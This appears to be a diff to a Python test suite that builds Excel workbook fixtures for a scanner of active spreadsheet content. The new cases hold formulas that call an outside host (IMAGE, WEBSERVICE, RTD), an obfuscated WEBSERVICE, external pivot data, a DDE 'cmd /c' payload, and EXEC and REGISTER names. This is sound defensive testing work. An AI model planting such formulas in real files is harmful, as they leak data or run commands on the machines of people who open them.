@@ -246,6 +246,61 @@ def picture_outside(parts: Parts) -> None:
     )(parts)
 
 
+def image(parts: Parts) -> None:
+    """A picture that a formula fetches, as Excel keeps it."""
+    _below(
+        parts,
+        f'<row r="900"><c r="B900" t="e" vm="1" cm="1"><f>_xlfn.IMAGE("http://{SECRET}/x")</f><v>#VALUE!</v></c></row>',
+    )
+    part = "xl/richData/rdRichValueWebImage.xml"
+    parts[part] = (
+        f'<webImagesSrd xmlns="x" xmlns:r="{R}"><webImageSrd><address r:id="rIdX0"/></webImageSrd></webImagesSrd>'.encode()
+    )
+    relate(parts, "xl/richData/_rels/rdRichValueWebImage.xml.rels", "hyperlink", f"http://{SECRET}/x", outside=True)
+    kind = "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage"
+    relate(parts, BOOK_RELS, kind, "richData/rdRichValueWebImage.xml")
+    parts["xl/metadata.xml"] = f'<metadata xmlns="{MAIN}"/>'.encode()
+    relate(parts, BOOK_RELS, "sheetMetadata", "metadata.xml")
+
+
+def newer_rules(parts: Parts) -> None:
+    """A conditional format and a validation as Excel has kept them since 2010."""
+    excel = "http://schemas.microsoft.com/office"
+    names = f'xmlns:x14="{excel}/spreadsheetml/2009/9/main" xmlns:xm="{excel}/excel/2006/main"'
+    rule = (
+        f'<x14:cfRule type="expression" priority="9" id="{{1}}"><xm:f>WEBSERVICE("http://{SECRET}")</xm:f></x14:cfRule>'
+    )
+    validation = f'<x14:dataValidation type="list"><x14:formula1><xm:f>RTD("{SECRET}")</xm:f></x14:formula1><xm:sqref>E9</xm:sqref></x14:dataValidation>'
+    xml = (
+        f'<extLst><ext {names} uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}"><x14:conditionalFormattings><x14:conditionalFormatting>{rule}<xm:sqref>E9</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext>'
+        f'<ext {names} uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}"><x14:dataValidations count="1">{validation}</x14:dataValidations></ext></extLst>'
+    )
+    insert(parts, xml, "/worksheet")
+
+
+def pivot(parts: Parts) -> None:
+    """A pivot table over data outside."""
+    query(parts)
+    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+    cache, table = "xl/pivotCache/pivotCacheDefinition1.xml", "xl/pivotTables/pivotTable1.xml"
+    parts[cache] = (
+        f'<pivotCacheDefinition xmlns="{MAIN}"><cacheSource type="external" connectionId="1"/><cacheFields count="1"><cacheField name="{SECRET}"/></cacheFields></pivotCacheDefinition>'.encode()
+    )
+    declare(parts, cache, f"{kind}.pivotCacheDefinition+xml")
+    identity = relate(parts, BOOK_RELS, "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
+    caches = f'<pivotCaches><pivotCache xmlns:r="{R}" cacheId="1" r:id="{identity}"/></pivotCaches></workbook>'
+    parts[BOOK] = parts[BOOK].replace(b"</workbook>", caches.encode())
+    parts[table] = f'<pivotTableDefinition xmlns="{MAIN}" name="p{SECRET}" cacheId="1"/>'.encode()
+    declare(parts, table, f"{kind}.pivotTable+xml")
+    relate(
+        parts,
+        "xl/pivotTables/_rels/pivotTable1.xml.rels",
+        "pivotCacheDefinition",
+        "../pivotCache/pivotCacheDefinition1.xml",
+    )
+    relate(parts, SHEET_RELS, "pivotTable", "../pivotTables/pivotTable1.xml")
+
+
 def hyperlink_base(parts: Parts) -> None:
     parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
         b"</Properties>", f"<HyperlinkBase>\\\\{SECRET}\\s</HyperlinkBase></Properties>".encode()
@@ -266,6 +321,12 @@ ACTING: dict[str, tuple[Change, str, tuple[str, str]]] = {
         cell(f'IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""http://{SECRET}"")"),1)'), "file.active_formula", ("ตบช.6", "B900"),
     ),
     "another computer": (cell(f"'\\\\{SECRET}\\s\\[b.xlsx]S'!A1"), "file.active_formula", ("ตบช.6", "B900")),
+    "in other signs": (
+        cell(f'W&#69;B<!-- x -->SERVICE(<![CDATA["{SECRET}"]]>)'), "file.active_formula", ("ตบช.6", "B900"),
+    ),
+    "IMAGE with its picture": (image, "file.active_formula", ("ตบช.6", "B900")),
+    "rules of newer kinds": (newer_rules, "file.active_formula", ("ตบช.6", "E9")),
+    "a pivot table": (pivot, "file.active_part", ("", "")),
     "DDE": (cell(f"cmd|'/c {SECRET}'!A0"), "file.dde", ("ตบช.6", "B900")),
     "a name": (name("", f'EXEC("{SECRET}")'), "file.active_formula", ("", "")),
     "a hidden name": (name(' hidden="1"', f'REGISTER("{SECRET}")'), "file.active_formula", ("", "")),
